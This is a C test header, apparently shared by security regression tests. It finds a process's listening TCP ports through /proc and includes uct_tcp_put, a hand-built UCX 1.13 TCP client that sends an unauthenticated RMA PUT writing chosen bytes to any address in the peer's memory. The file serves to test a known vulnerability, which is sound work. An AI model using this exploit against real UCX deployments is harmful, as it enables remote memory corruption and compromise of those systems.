/* Test helper: what the attack tests of the memory node, the codec agent
 * and the pipeline worker share: the TCP ports a process listens on, and
 * a raw UCT TCP client that sends UCX 1.13's RMA PUT. */
#ifndef FT_TEST_ATTACK_UTIL_H
#define FT_TEST_ATTACK_UTIL_H
#include "net/raw_client.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

/* A token file with this content and mode in /tmp (name from prefix);
 * path written to buf. 0 on success. */
static inline int make_token_file(char *buf, size_t n, const char *prefix, const char *content, mode_t mode)
{
    snprintf(buf, n, "/tmp/%sXXXXXX", prefix);
    int fd = mkstemp(buf);
    if (fd < 0) return -1;
    int ok = write(fd, content, strlen(content)) == (ssize_t)strlen(content);
    close(fd);
    return ok && chmod(buf, mode) == 0 ? 0 : -1;
}

/* The TCP ports process pid listens on (IPv4 and IPv6), from the kernel's
 * socket tables and the process's descriptors. addr: "ip:port". */
static inline int listening_sockets(pid_t pid, char addr[][64], int max)
{
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/fd", (int)pid);
    unsigned long long inodes[512];
    int ni = 0;
    DIR *d = opendir(dir);
    struct dirent *de;
    while (d && (de = readdir(d)) && ni < 512) {
        char link[320], target[64];
        snprintf(link, sizeof link, "%s/%s", dir, de->d_name);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n <= 0) continue;
        target[n] = 0;
        unsigned long long ino;
        if (sscanf(target, "socket:[%llu]", &ino) == 1) inodes[ni++] = ino;
    }
    if (d) closedir(d);
    int found = 0;
    const char *files[2] = {"tcp", "tcp6"};
    for (int f = 0; f < 2; f++) {
        char path[64], line[512];
        snprintf(path, sizeof path, "/proc/%d/net/%s", (int)pid, files[f]);
        FILE *fp = fopen(path, "r");
        while (fp && fgets(line, sizeof line, fp)) {
            char l[64], st[8];
            unsigned long long ino;
            if (sscanf(line, " %*s %63s %*s %7s %*s %*s %*s %*s %*s %llu", l, st, &ino) != 3) continue;
            if (strcmp(st, "0A")) continue;   /* LISTEN */
            for (int i = 0; i < ni; i++)
                if (inodes[i] == ino && found < max) {
                    char *colon = strrchr(l, ':');
                    unsigned port = colon ? (unsigned)strtoul(colon + 1, NULL, 16) : 0;
                    unsigned a = 0;
                    if (f == 0) sscanf(l, "%8x", &a);
                    if (f == 0)
                        snprintf(addr[found++], 64, "%u.%u.%u.%u:%u", a & 255, (a >> 8) & 255,
                                 (a >> 16) & 255, a >> 24, port);
                    else
                        snprintf(addr[found++], 64, "[v6]:%u", port);
                }
        }
        if (fp) fclose(fp);
    }
    return found;
}

/* ------------------------------------------------------------ UCX RMA */

/* A raw UCT TCP client, byte for byte as UCX 1.13's TCP transport speaks
 * (src/uct/tcp/tcp_cm.c, tcp_ep.c at v1.13.1): connect to a port, send the
 * magic number and a connection request, then a PUT request naming any
 * address in the peer's memory, followed by the bytes to write there. UCX
 * executes it before anything above it sees a byte: the attack of issue
 * 13. Returns 1 if every byte could be sent. */
static inline int uct_tcp_put(int port, uint64_t addr, const void *data, size_t len)
{
    int fd = raw_connect(port, NULL);
    if (fd < 0) return 0;
    uint8_t pkt[8 + 5 + 13 + 16];
    uint64_t magic = 0xCAFEBABE12345678ull;
    memcpy(pkt, &magic, 8);
    pkt[8] = 32;                                   /* UCT_TCP_EP_CM_AM_ID */
    uint32_t l = 13 + 16;
    memcpy(pkt + 9, &l, 4);
    uint32_t ev = 1;                               /* UCT_TCP_CM_CONN_REQ */
    memcpy(pkt + 13, &ev, 4);
    pkt[17] = 0;                                   /* connect to iface */
    static uint64_t sn = 0x1234;
    sn += 0x10001;   /* a new connection each time */
    memcpy(pkt + 18, &sn, 8);
    struct sockaddr_in me = {.sin_family = AF_INET, .sin_port = htons(1)};
    me.sin_addr.s_addr = htonl(0x7f000001);
    memcpy(pkt + 26, &me, 16);
    int ok = raw_write(fd, pkt, sizeof pkt) == 0;
    usleep(200000);                                /* let it accept */
    /* the request and its bytes in one segment: UCX copies them with
     * memcpy straight from its receive buffer */
    static uint8_t put[5 + 20 + 65536];
    if (len > 65536) len = 65536;
    put[0] = 33;                                   /* UCT_TCP_EP_PUT_REQ_AM_ID */
    l = 20;
    memcpy(put + 1, &l, 4);
    uint64_t length = len;
    uint32_t psn = 1;
    memcpy(put + 5, &addr, 8);
    memcpy(put + 13, &length, 8);
    memcpy(put + 21, &psn, 4);
    memcpy(put + 25, data, len);
    ok = ok && raw_write(fd, put, 25 + len) == 0;
    usleep(300000);                                /* let it write */
    close(fd);
    return ok;
}

#endif
